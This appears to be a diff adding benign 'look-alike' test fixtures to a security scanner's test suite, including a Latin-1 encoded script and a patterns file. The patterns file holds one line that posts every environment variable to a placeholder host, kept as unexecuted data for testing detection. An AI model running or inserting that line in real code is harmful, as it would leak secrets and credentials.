@@ -231,4 +231,17 @@ export const LOOK_ALIKES: readonly LookAlike[] = [
       "table.py": `TABLE = {\n${Array.from({ length: 800 }, (_, at) => `    "key${at}": ${at},`).join("\n")}\n}\nprint(len(TABLE))\n`,
     },
   },
+  {
+    lookAlikeOf: "unreadable-code",
+    title: "an old source that names its encoding",
+    files: { "main.py": Buffer.from("# -*- coding: latin-1 -*-\nprint('caf\u00e9')\n", "latin1") },
+  },
+  {
+    lookAlikeOf: "credential-exfiltration",
+    title: "a text that is read and not run",
+    files: {
+      "main.py": 'import json\nrules = open("patterns.txt").read().splitlines()\nprint(json.dumps(rules))\n',
+      "patterns.txt": 'urllib.request.urlopen("https://x.example/", str(dict(os.environ)).encode())\n',
+    },
+  },
 ];
